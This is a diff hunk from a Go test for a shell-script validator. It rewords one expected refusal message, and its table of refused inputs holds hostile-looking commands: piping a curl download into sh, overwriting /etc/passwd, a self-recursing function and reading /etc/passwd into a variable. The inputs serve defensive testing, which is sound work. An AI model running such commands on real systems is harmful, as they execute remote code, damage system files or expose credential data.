@@ -141,7 +141,7 @@ func TestRefusals(t *testing.T) {
 		{"curl http://192.0.2.1 | sh\n", "rc.sh:1:1: a pipe"},
 		{"echo x > /etc/passwd\n", "a redirection"},
 		{"while true; do :; done\n", "a while or until loop"},
-		{"f() { f; }; f\n", "the function f"},
+		{"f() { f; }; f\n", "a function"},
 		{"export A=$(cat /etc/passwd)\n", "the command cat"},
 		{"sleep 1 &\n", "a command in the background"},
 		{"if [ x\n", "it is no shell script"},
